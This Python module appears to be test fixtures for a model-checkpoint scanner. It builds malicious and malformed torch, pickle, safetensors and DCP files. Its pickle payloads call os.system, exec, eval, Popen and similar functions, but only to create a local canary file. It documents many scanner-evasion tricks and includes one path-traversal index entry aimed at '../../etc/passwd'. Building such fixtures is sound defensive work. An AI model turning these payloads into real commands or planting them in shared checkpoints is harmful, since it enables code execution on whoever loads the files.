"""Builders of hostile and broken checkpoint files, made at test time (no tests here).

Every builder takes a directory (``pathlib.Path``) and returns the path it wrote.
Hostile payloads try to create ``<dir>/CANARY_EXECUTED`` (absolute path); a test that
finds that file after running a command has just watched a checkpoint execute code.
"""

from __future__ import annotations

import builtins
import io
import json
import os
import pickle
import random
import struct
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import torch

CANARY_NAME = "CANARY_EXECUTED"
EVIL_MODULE = "ckpt_evil_sideeffect"


def canary_path(directory: Path) -> Path:
    return (Path(directory) / CANARY_NAME).absolute()


# --------------------------------------------------------------------------- payloads
# Only __reduce__ matters: pickle records the callable it returns, not these classes.


class _OsSystem:
    def __init__(self, canary: Path) -> None:
        self.canary = str(canary)

    def __reduce__(self):  # recorded as posix.system
        return (os.system, (f"touch '{self.canary}'",))


class _Exec:
    def __init__(self, canary: Path) -> None:
        self.canary = str(canary)

    def __reduce__(self):  # recorded as __builtin__.exec (protocol 2 py2 mapping)
        return (builtins.exec, (f"open({self.canary!r}, 'w').close()",))


class _Eval:
    def __init__(self, canary: Path) -> None:
        self.canary = str(canary)

    def __reduce__(self):  # recorded as __builtin__.eval
        return (builtins.eval, (f"open({self.canary!r}, 'w').close()",))


class _Popen:
    def __init__(self, canary: Path) -> None:
        self.canary = str(canary)

    def __reduce__(self):  # recorded as commands.Popen (py2 name of subprocess)
        return (subprocess.Popen, (["touch", self.canary],))


class _Getcwd:
    """Placeholder global, byte-replaced afterwards by ckpt_evil_sideeffect.Thing."""

    def __reduce__(self):
        return (os.getcwd, ())


def _weights_with(evil: object) -> dict[str, object]:
    return {"weight": torch.randn(3, 4), "bias": torch.zeros(3), "evil": evil}


# --------------------------------------------------------------------------- hostile zips


def zip_os_system(directory: Path) -> Path:
    path = Path(directory) / "zip_os_system.pth"
    torch.save(_weights_with(_OsSystem(canary_path(directory))), path)
    return path


def zip_exec(directory: Path) -> Path:
    path = Path(directory) / "zip_exec.pth"
    torch.save(_weights_with(_Exec(canary_path(directory))), path)
    return path


def zip_eval(directory: Path) -> Path:
    path = Path(directory) / "zip_eval.pth"
    torch.save(_weights_with(_Eval(canary_path(directory))), path)
    return path


def zip_popen(directory: Path) -> Path:
    path = Path(directory) / "zip_popen.pth"
    torch.save(_weights_with(_Popen(canary_path(directory))), path)
    return path


def _write_torch_zip(path: Path, members: list[tuple[str, bytes]]) -> None:
    """Write members STORED, in order, each payload 64-byte aligned like torch does."""
    with open(path, "wb") as fh, zipfile.ZipFile(fh, "w", zipfile.ZIP_STORED) as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_STORED
            offset = fh.tell() + 30 + len(name.encode()) + 4  # local header + extra header
            pad = (-offset) % 64
            info.extra = struct.pack("<HH", 0x4246, pad) + b"Z" * pad  # torch's "FB" padding
            zf.writestr(info, data)


def zip_import_side_effect(directory: Path) -> Path:
    """A module whose import writes the canary, and a torch zip naming one of its classes.

    The zip holds real tensors (weight, bias); data.pkl's ``evil`` entry is
    ``GLOBAL 'ckpt_evil_sideeffect Thing'`` + ``REDUCE`` (a call with no arguments).
    """
    directory = Path(directory)
    (directory / f"{EVIL_MODULE}.py").write_text(
        f"open({str(canary_path(directory))!r}, 'w').close()\n\n\nclass Thing:\n    pass\n"
    )
    path = directory / "zip_import_side_effect.pth"
    torch.save(_weights_with(_Getcwd()), path)
    with zipfile.ZipFile(path) as zf:
        members = [(i.filename, zf.read(i)) for i in zf.infolist()]
    placeholder = b"cposix\ngetcwd\n"
    rewritten = []
    for name, data in members:
        if name.endswith("/data.pkl"):
            assert data.count(placeholder) == 1, "unexpected pickle layout from torch.save"
            data = data.replace(placeholder, f"c{EVIL_MODULE}\nThing\n".encode())
        rewritten.append((name, data))
    _write_torch_zip(path, rewritten)
    return path


# --------------------------------------------------------------------------- other hostile files


def _numpy_with_payload(directory: Path) -> dict[str, object]:
    return {"weight": np.zeros((3, 4), np.float32), "evil": _OsSystem(canary_path(directory))}


def pickle_os_system(directory: Path) -> Path:
    path = Path(directory) / "pickle_os_system.pkl"
    path.write_bytes(pickle.dumps(_numpy_with_payload(directory), protocol=2))
    return path


def pickle_protocol0_system(directory: Path) -> Path:
    path = Path(directory) / "pickle_protocol0_system.pkl"
    path.write_bytes(pickle.dumps(_numpy_with_payload(directory), protocol=0))
    return path


def legacy_os_system(directory: Path) -> Path:
    path = Path(directory) / "legacy_os_system.pth"
    torch.save(
        _weights_with(_OsSystem(canary_path(directory))),
        path,
        _use_new_zipfile_serialization=False,
    )
    return path


# --------------------------------------------------------------------------- broken files


def empty_file(directory: Path) -> Path:
    path = Path(directory) / "empty.pth"
    path.write_bytes(b"")
    return path


def random_bytes(directory: Path) -> Path:
    path = Path(directory) / "random.pth"
    path.write_bytes(random.Random(1234).randbytes(4096))
    return path


def text_named_pth(directory: Path) -> Path:
    path = Path(directory) / "model.pth"
    path.write_text("hello\n")
    return path


def truncated_zip(directory: Path) -> Path:
    path = Path(directory) / "truncated.pth"
    buf = io.BytesIO()
    torch.save({"weight": torch.randn(64, 64), "bias": torch.zeros(64)}, buf)
    data = buf.getvalue()
    path.write_bytes(data[: len(data) // 2])
    return path


def zip_without_data_pkl(directory: Path) -> Path:
    path = Path(directory) / "no_data_pkl.pth"
    _write_torch_zip(path, [("archive/version", b"3\n")])
    return path


def folder_without_checkpoint(directory: Path) -> Path:
    path = Path(directory) / "not_a_checkpoint_folder"
    path.mkdir()
    (path / "README.txt").write_text("nothing to see here\n")
    return path


def missing_path(directory: Path) -> Path:
    return Path(directory) / "does_not_exist.pth"


def safetensors_bytes(header: object, data: bytes, *, pad: bool = True) -> bytes:
    """8-byte little-endian header length, the JSON header (space-padded to 8), the data."""
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    if pad:
        raw += b" " * ((-len(raw)) % 8)
    return struct.pack("<Q", len(raw)) + raw + data


def _f32_entry(begin: int, end: int, shape: list[int] | None = None) -> dict[str, object]:
    return {"dtype": "F32", "shape": shape or [2, 2], "data_offsets": [begin, end]}


_META = {"__metadata__": {"format": "pt"}}


def safetensors_valid(directory: Path) -> Path:
    """A control file: the builders below each break exactly one thing in this one."""
    path = Path(directory) / "valid.safetensors"
    header = {"a": _f32_entry(0, 16), "b": _f32_entry(16, 32), **_META}
    path.write_bytes(safetensors_bytes(header, bytes(32)))
    return path


def safetensors_absurd_header_len(directory: Path) -> Path:
    path = Path(directory) / "absurd_header_len.safetensors"
    path.write_bytes(struct.pack("<Q", 2**62) + b'{"a": {}}')
    return path


def safetensors_broken_json(directory: Path) -> Path:
    path = Path(directory) / "broken_json.safetensors"
    path.write_bytes(safetensors_bytes(b'{"a": {"dtype": "F32", "shape": [2, 2', bytes(16)))
    return path


def safetensors_overlapping_offsets(directory: Path) -> Path:
    path = Path(directory) / "overlapping_offsets.safetensors"
    header = {"a": _f32_entry(0, 16), "b": _f32_entry(8, 24), **_META}
    path.write_bytes(safetensors_bytes(header, bytes(24)))
    return path


def safetensors_offsets_past_end(directory: Path) -> Path:
    path = Path(directory) / "offsets_past_end.safetensors"
    header = {"a": _f32_entry(0, 16), "b": _f32_entry(16, 32), **_META}
    path.write_bytes(safetensors_bytes(header, bytes(16)))
    return path


def safetensors_header_not_object(directory: Path) -> Path:
    path = Path(directory) / "header_not_object.safetensors"
    path.write_bytes(safetensors_bytes([1, 2, 3], bytes(16)))
    return path


def safetensors_size_mismatch(directory: Path) -> Path:
    path = Path(directory) / "size_mismatch.safetensors"
    header = {"a": _f32_entry(0, 12), **_META}  # 2x2 float32 needs 16 bytes
    path.write_bytes(safetensors_bytes(header, bytes(12)))
    return path


def safetensors_unknown_dtype(directory: Path) -> Path:
    path = Path(directory) / "unknown_dtype.safetensors"
    header = {"a": {"dtype": "Q7", "shape": [2, 2], "data_offsets": [0, 16]}, **_META}
    path.write_bytes(safetensors_bytes(header, bytes(16)))
    return path


# --------------------------------------------------------------------------- registries

Builder = Callable[[Path], Path]

# (builder, substring the one-line error must contain besides the file name, or None)
BAD_INPUTS: list[tuple[Builder, str | None]] = [
    (empty_file, None),
    (random_bytes, None),
    (text_named_pth, None),
    (truncated_zip, None),
    (zip_without_data_pkl, None),
    (folder_without_checkpoint, None),
    (missing_path, None),
    (safetensors_absurd_header_len, None),
    (safetensors_broken_json, None),
    (safetensors_overlapping_offsets, None),
    (safetensors_offsets_past_end, None),
    (safetensors_header_not_object, None),
    (safetensors_size_mismatch, None),
    (safetensors_unknown_dtype, "Q7"),
]

# Hostile torch zips holding real tensors `weight` (3x4) and `bias` (3) plus an `evil` entry.
# Each with the refused global it must report: (accepted spellings, dangerous).
# Spellings: as recorded in the file, or after torch's py2 -> py3 name mapping.
HOSTILE_ZIPS: list[tuple[Builder, tuple[str, ...], bool]] = [
    (zip_os_system, ("posix.system",), True),
    (zip_exec, ("__builtin__.exec", "builtins.exec"), True),
    (zip_eval, ("__builtin__.eval", "builtins.eval"), True),
    (zip_popen, ("commands.Popen", "subprocess.Popen"), True),
    (zip_import_side_effect, (f"{EVIL_MODULE}.Thing",), True),  # called: dangerous
]

# Other hostile files (not torch zips): plain pickles and a legacy torch file.
HOSTILE_OTHER: list[tuple[Builder, tuple[str, ...], bool]] = [
    (pickle_os_system, ("posix.system",), True),
    (pickle_protocol0_system, ("posix.system",), True),
    (legacy_os_system, ("posix.system",), True),
]


# =========================================================================== hand-assembled pickles
# Added for `ckpt scan` and the hostile corpus. A tiny assembler: each helper returns opcode
# bytes, so a test can place a payload exactly where a scanner might not look (a memo entry, a
# BUILD state, a persistent id, a dotted attribute path, bytes inside bytes).


def _u(s: str) -> bytes:
    """BINUNICODE."""
    raw = s.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _i(n: int) -> bytes:
    """BININT, or LONG1 beyond 32 bits."""
    if -(2**31) <= n < 2**31:
        return b"J" + struct.pack("<i", n)
    raw = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def _b(data: bytes) -> bytes:
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(data)) + data


def _g(module: str, name: str) -> bytes:
    """GLOBAL (protocol 0-2 spelling)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL with both strings pushed right before it."""
    return _u(module) + _u(name) + b"\x93"


def _tup(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def _call(fn: bytes, *args: bytes) -> bytes:
    return fn + _tup(*args) + b"R"


def _dict(pairs: list[tuple[bytes, bytes]]) -> bytes:
    return b"}(" + b"".join(k + v for k, v in pairs) + b"u"


def _pickle(body: bytes, proto: int = 4) -> bytes:
    return b"\x80" + bytes([proto]) + body + b"."


def _tensor(
    key: str,
    shape: tuple[int, ...],
    *,
    numel: int | None = None,
    stride: tuple[int, ...] | None = None,
    storage: bytes | None = None,
    location: bytes | None = None,
) -> bytes:
    """torch._utils._rebuild_tensor_v2 of a persistent storage, as torch.save writes it."""
    if stride is None:
        acc, out = 1, []
        for d in reversed(shape):
            out.insert(0, acc)
            acc *= max(d, 1)
        stride = tuple(out)
    if numel is None:
        numel = 1
        for d in shape:
            numel *= d
    pid = _tup(
        _u("storage"),
        storage if storage is not None else _g("torch", "FloatStorage"),
        _u(key),
        location if location is not None else _u("cpu"),
        _i(numel),
    )
    return _call(
        _g("torch._utils", "_rebuild_tensor_v2"),
        pid + b"Q",
        _i(0),
        _tup(*map(_i, shape)),
        _tup(*map(_i, stride)),
        b"\x89",
        _call(_g("collections", "OrderedDict")),
    )


def _base_members() -> list[tuple[str, bytes]]:
    """torch.save's members for module.weight (3x4, storage 0) and module.bias (3, storage 1)."""
    buf = io.BytesIO()
    sd = {"module.weight": torch.arange(12.0).reshape(3, 4), "module.bias": torch.ones(3)}
    torch.save(sd, buf)
    with zipfile.ZipFile(buf) as zf:
        return [(i.filename, zf.read(i)) for i in zf.infolist()]


WEIGHT = ("module.weight", (3, 4), "0")
BIAS = ("module.bias", (3,), "1")


def _state_dict_pkl(*extra: tuple[bytes, bytes], proto: int = 4) -> bytes:
    """data.pkl: {module.weight, module.bias, *extra}, tensors over storages 0 and 1."""
    pairs = [(_u(k), _tensor(s, shape)) for k, shape, s in (WEIGHT, BIAS)]
    return _pickle(_dict([*pairs, *extra]), proto)


def _zip(
    directory: Path,
    name: str,
    data_pkl: bytes,
    *,
    extra: list[tuple[str, bytes]] | None = None,
    replace: dict[str, bytes] | None = None,
) -> Path:
    """A torch zip with the given data.pkl (and optional extra or replaced members)."""
    members = [(n, data_pkl if n.endswith("/data.pkl") else d) for n, d in _base_members()]
    members = [(n, (replace or {}).get(n, d)) for n, d in members] + (extra or [])
    path = Path(directory) / name
    _write_torch_zip(path, members)
    return path


def _touch(directory: Path) -> str:
    return f"touch '{canary_path(directory)}'"


def _py_touch(directory: Path) -> str:
    return f"open({str(canary_path(directory))!r}, 'w').close()"


def _evil_zip(directory: Path, name: str, evil: bytes, proto: int = 4) -> Path:
    return _zip(directory, name, _state_dict_pkl((_u("evil"), evil), proto=proto))


def zip_os_system_stack_global(directory: Path) -> Path:
    """os.system (the `os` spelling, not posix) through STACK_GLOBAL."""
    return _evil_zip(directory, "os_system.pth", _call(_sg("os", "system"), _u(_touch(directory))))


def zip_posix_system(directory: Path) -> Path:
    return _evil_zip(
        directory, "posix_system.pth", _call(_g("posix", "system"), _u(_touch(directory)))
    )


def zip_subprocess_popen(directory: Path) -> Path:
    """subprocess.Popen(cmd, shell=True) with shell passed positionally."""
    args = [_u(_touch(directory)), _i(-1), *[b"N"] * 5, b"\x88", b"\x88"]
    return _evil_zip(directory, "subprocess_popen.pth", _call(_sg("subprocess", "Popen"), *args))


def zip_builtins_exec(directory: Path) -> Path:
    return _evil_zip(
        directory, "builtins_exec.pth", _call(_sg("builtins", "exec"), _u(_py_touch(directory)))
    )


def zip_builtins_eval(directory: Path) -> Path:
    return _evil_zip(
        directory, "builtins_eval.pth", _call(_sg("builtins", "eval"), _u(_py_touch(directory)))
    )


def zip_getattr_chain(directory: Path) -> Path:
    """builtins.getattr(builtins.__import__('os'), 'system')('touch ...')."""
    os_mod = _call(_g("builtins", "__import__"), _u("os"))
    system = _call(_g("builtins", "getattr"), os_mod, _u("system"))
    return _evil_zip(directory, "getattr_chain.pth", _call(system, _u(_touch(directory))))


def zip_dunder_import(directory: Path) -> Path:
    """builtins.__import__ of a module whose import writes the canary."""
    (Path(directory) / f"{EVIL_MODULE}.py").write_text(f"{_py_touch(directory)}\n")
    return _evil_zip(
        directory, "dunder_import.pth", _call(_sg("builtins", "__import__"), _u(EVIL_MODULE))
    )


def zip_runpy_run_code(directory: Path) -> Path:
    """runpy._run_code(source, {}) execs the source."""
    return _evil_zip(
        directory,
        "runpy_run_code.pth",
        _call(_sg("runpy", "_run_code"), _u(_py_touch(directory)), b"}"),
    )


def zip_nested_pickle(directory: Path) -> Path:
    """A bytes entry (no tensor) holding a whole pickle with os.system: inert data to torch.load,
    a payload to whoever calls pickle.loads on it."""
    inner = pickle.dumps(_OsSystem(canary_path(directory)), protocol=4)
    return _evil_zip(directory, "nested_pickle.pth", _b(inner))


def zip_memo_stack_global(directory: Path) -> Path:
    """'os' and 'system' memoised inside a harmless list, STACK_GLOBAL later from BINGETs."""
    names = b"](" + _u("os") + b"q\x64" + _u("system") + b"q\x65e"  # BINPUT 100, 101
    call = _call(b"h\x64h\x65\x93", _u(_touch(directory)))  # BINGET 100, 101, STACK_GLOBAL
    data = _state_dict_pkl((_u("names"), names), (_u("evil"), call))
    return _zip(directory, "memo_stack_global.pth", data)


def zip_memo_callable(directory: Path) -> Path:
    """posix.system memoised and popped at once; called much later through BINGET."""
    hidden = _g("posix", "system") + b"q\x660N"  # BINPUT 102, POP, push None instead
    call = _call(b"h\x66", _u(_touch(directory)))
    data = _state_dict_pkl((_u("hidden"), hidden), (_u("evil"), call))
    return _zip(directory, "memo_callable.pth", data)


def zip_build_state(directory: Path) -> Path:
    """The call sits in the BUILD state of an innocent-looking argparse.Namespace."""
    state = _dict([(_u("lr"), _call(_g("posix", "system"), _u(_touch(directory))))])
    ns = _call(_g("argparse", "Namespace")) + state + b"b"
    return _evil_zip(directory, "build_state.pth", ns)


def zip_persistent_id(directory: Path) -> Path:
    """The call is the `location` field of a storage's persistent id."""
    evil_loc = _call(_g("posix", "system"), _u(_touch(directory)))
    pairs = [
        (_u("module.weight"), _tensor("0", (3, 4), location=evil_loc)),
        (_u("module.bias"), _tensor("1", (3,))),
    ]
    return _zip(directory, "persistent_id.pth", _pickle(_dict(pairs)))


def zip_dotted_name(directory: Path) -> Path:
    """Protocol 4 resolves dotted names as attribute paths: torch + serialization.os.system."""
    call = _call(_sg("torch", "serialization.os.system"), _u(_touch(directory)))
    return _evil_zip(directory, "dotted_name.pth", call)


def zip_computed_global(directory: Path) -> Path:
    """STACK_GLOBAL whose module name is computed at load time (builtins.str('os'))."""
    module = _call(_g("builtins", "str"), _u("os"))
    call = _call(module + _u("system") + b"\x93", _u(_touch(directory)))
    return _evil_zip(directory, "computed_global.pth", call)


def zip_extension_code(directory: Path) -> Path:
    """EXT1: a global by copyreg extension code, which no scan can name."""
    return _evil_zip(directory, "extension_code.pth", _call(b"\x82\x2a", _u("x")))


def zip_torchscript_constants(directory: Path) -> Path:
    """A TorchScript-looking archive whose constants.pkl calls os.system."""
    constants = _pickle(_tup(_call(_g("posix", "system"), _u(_touch(directory)))), 2)
    extra = [("archive/constants.pkl", constants), ("archive/code/__torch__.py", b"# code\n")]
    return _zip(directory, "torchscript.pth", _state_dict_pkl(), extra=extra)


def zip_duplicate_data_pkl(directory: Path) -> Path:
    """data.pkl twice: a clean one first, a hostile one last (the one most readers keep)."""
    import warnings

    evil = _state_dict_pkl((_u("evil"), _call(_g("posix", "system"), _u(_touch(directory)))))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate it is asked to write
        return _zip(
            directory, "duplicate_member.pth", _state_dict_pkl(), extra=[("archive/data.pkl", evil)]
        )


def _build_on(target: bytes, state: bytes) -> bytes:
    """BUILD applied to a global itself (pushed, not called), then dropped with POP."""
    return target + state + b"b0"


def zip_build_on_dtype(directory: Path) -> Path:
    state = _dict([(_u("itemsize"), _i(99)), (_u("is_floating_point"), b"\x89")])
    evil = _build_on(_g("torch", "float32"), state) + b"N"
    return _evil_zip(directory, "build_on_dtype.pth", evil)


def zip_build_on_ordereddict(directory: Path) -> Path:
    state = _tup(b"N", _dict([(_u("__init__"), _g("builtins", "print"))]))
    evil = _build_on(_g("collections", "OrderedDict"), state) + b"N"
    return _evil_zip(directory, "build_on_ordereddict.pth", evil)


def zip_build_on_rebuild_tensor(directory: Path) -> Path:
    """Tries to replace _rebuild_tensor_v2's defaults before the tensors are rebuilt."""
    state = _tup(b"N", _dict([(_u("__defaults__"), _tup(b"\x88", b"N", b"N"))]))
    evil = _build_on(_g("torch._utils", "_rebuild_tensor_v2"), state) + b"N"
    pairs = [(_u("evil"), evil)] + [(_u(k), _tensor(s, shape)) for k, shape, s in (WEIGHT, BIAS)]
    return _zip(directory, "build_on_rebuild_tensor.pth", _pickle(_dict(pairs)))


def pickle_trailing_payload(directory: Path) -> Path:
    """A clean pickle followed by a second one with a payload (code calling pickle.load twice)."""
    path = Path(directory) / "trailing_payload.pkl"
    first = pickle.dumps({"weight": np.zeros((2, 2), np.float32)}, protocol=4)
    path.write_bytes(first + pickle.dumps(_OsSystem(canary_path(directory)), protocol=4))
    return path


# --------------------------------------------------------------------------- broken torch zips


def zip_missing_storage(directory: Path) -> Path:
    pairs = [(_u("module.weight"), _tensor("7", (3, 4)))]
    return _zip(directory, "missing_storage.pth", _pickle(_dict(pairs)))


def zip_record_too_small(directory: Path) -> Path:
    """A 1 KB record claiming a 1 GB tensor (2**28 float32)."""
    pairs = [(_u("module.weight"), _tensor("0", (2**28,)))]
    return _zip(
        directory,
        "record_too_small.pth",
        _pickle(_dict(pairs)),
        replace={"archive/data/0": bytes(1024)},
    )


def zip_negative_shape(directory: Path) -> Path:
    pairs = [(_u("module.weight"), _tensor("0", (-1, 12), numel=12, stride=(12, 1)))]
    return _zip(directory, "negative_shape.pth", _pickle(_dict(pairs)))


def zip_huge_numel(directory: Path) -> Path:
    pairs = [(_u("module.weight"), _tensor("0", (2**40, 2**40), numel=12, stride=(2**40, 1)))]
    return _zip(directory, "huge_numel.pth", _pickle(_dict(pairs)))


def zip_unknown_dtype(directory: Path) -> Path:
    pairs = [(_u("module.weight"), _tensor("0", (3, 4), storage=_g("torch", "Float7Storage")))]
    return _zip(directory, "unknown_dtype.pth", _pickle(_dict(pairs)))


def zip_bad_crc(directory: Path) -> Path:
    """A storage record whose bytes no longer match the CRC-32 in the directory."""
    path = _zip(directory, "bad_crc.pth", _state_dict_pkl())
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo("archive/data/0")
    data = bytearray(path.read_bytes())
    with open(path, "rb") as f:
        f.seek(info.header_offset + 26)
        n, m = struct.unpack("<2H", f.read(4))
    data[info.header_offset + 30 + n + m] ^= 0xFF
    path.write_bytes(bytes(data))
    return path


# --------------------------------------------------------------------------- other formats


def safetensors_invalid_utf8(directory: Path) -> Path:
    path = Path(directory) / "invalid_utf8.safetensors"
    path.write_bytes(safetensors_bytes(b'{"a\xff\xfe": {"dtype": "F32"}}', bytes(16)))
    return path


def _index(directory: Path, name: str, weight_map: dict[str, str]) -> Path:
    folder = Path(directory) / name
    folder.mkdir()
    shard = folder / "model-00001-of-00001.safetensors"
    shard.write_bytes(safetensors_bytes({"a": _f32_entry(0, 16), **_META}, bytes(16)))
    path = folder / "model.safetensors.index.json"
    path.write_text(json.dumps({"metadata": {}, "weight_map": weight_map}))
    return path


def index_outside_folder(directory: Path) -> Path:
    return _index(
        directory, "outside", {"a": "model-00001-of-00001.safetensors", "b": "../../etc/passwd"}
    )


def index_missing_shard(directory: Path) -> Path:
    return _index(
        directory,
        "missing",
        {"a": "model-00001-of-00001.safetensors", "b": "model-00002-of-00002.safetensors"},
    )


def _dcp_save(folder: Path, state: dict[str, object]) -> None:
    import warnings

    import torch.distributed.checkpoint as dcp

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        dcp.save(state, checkpoint_id=str(folder), no_dist=True)


def dcp_corrupt_metadata(directory: Path) -> Path:
    folder = Path(directory) / "dcp_corrupt"
    _dcp_save(folder, {"w": torch.arange(6.0)})
    meta = folder / ".metadata"
    meta.write_bytes(meta.read_bytes()[:40])
    return folder


def dcp_bytes_item_payload(directory: Path) -> Path:
    """A non-tensor DCP item: torch's DCP loader reads these with torch.load(weights_only=False)."""
    folder = Path(directory) / "dcp_bytes_payload"
    _dcp_save(folder, {"w": torch.arange(6.0), "evil": _OsSystem(canary_path(directory))})
    return folder


def dcp_metadata_payload(directory: Path) -> Path:
    """.metadata (read by torch with an unrestricted pickle.load) with a payload in it."""
    folder = Path(directory) / "dcp_metadata_payload"
    _dcp_save(folder, {"w": torch.arange(6.0)})
    meta = folder / ".metadata"
    data = meta.read_bytes()
    assert data[-1:] == b"."
    evil = _call(_g("posix", "system"), _u(_touch(directory)))
    meta.write_bytes(data[:-1] + evil + b"0.")  # call, POP, STOP: the Metadata stays the result
    return folder
